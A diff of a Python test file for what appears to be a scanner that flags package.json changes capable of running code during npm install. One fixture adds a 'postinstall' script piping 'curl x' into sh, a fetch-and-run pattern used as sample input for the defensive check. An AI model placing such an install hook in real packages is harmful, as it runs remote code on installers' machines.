@@ -96,10 +96,11 @@ def test_submodule() -> None:
 def test_package_json_only_flags_keys_that_run_code() -> None:
     old = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}}'
     bump = b'{"name": "x", "version": "1.0.1", "scripts": {"test": "jest"}}'
-    evil = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest", "postinstall": "curl x|sh"}}'
-    deps = b'{"name": "x", "version": "1.0.0", "scripts": {"test": "jest"}, "dependencies": {"a": "1"}}'
+    evil = old.replace(b'"jest"}', b'"jest", "postinstall": "curl x|sh"}')
+    deps = old.replace(b"}}", b'}, "dependencies": {"a": "1"}}')
     assert flagged("package.json", old_data=old, new_data=bump) == []
-    assert flagged("package.json", old_data=old, new_data=evil) == ["package.json scripts: npm runs them"]
+    assert flagged("package.json", old_data=old, new_data=evil) == [
+        "package.json scripts: npm runs them"]
     assert flagged("web/package.json", old_data=old, new_data=deps) == [
         "package.json dependencies: installs run their scripts"]
     assert "parse" in flagged("package.json", old_data=old, new_data=b"{oops")[0]
